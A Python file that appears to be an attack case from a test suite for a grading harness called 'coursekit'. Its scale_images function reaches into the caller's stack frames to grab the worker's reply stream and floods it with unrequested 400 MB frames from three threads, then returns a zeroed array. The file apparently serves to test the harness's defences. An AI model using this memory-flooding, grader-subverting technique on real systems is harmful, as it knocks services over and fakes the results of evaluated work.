"""Sends frames of 400 MB that nobody asked for, to fill the memory of whoever reads them.

Attacks: scale_images
Reported: scale_images
Breaks: It lasts no longer than its time
"""

import sys
import threading

import numpy as np


def _worker():
    """Return the worker's main function's variables, with the stream that answers go to in them."""
    frame = sys._getframe()
    while "replies" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals


def scale_images(images):
    from coursekit.worker.protocol import write_frame

    stream, big = _worker()["replies"], np.zeros(400 * 2**20, "uint8")

    def flood():
        while True:
            write_frame(stream, {"ok": big, "number": 0}, dict)

    for _ in range(3):
        threading.Thread(target=flood, daemon=True).start()
    return images * 0
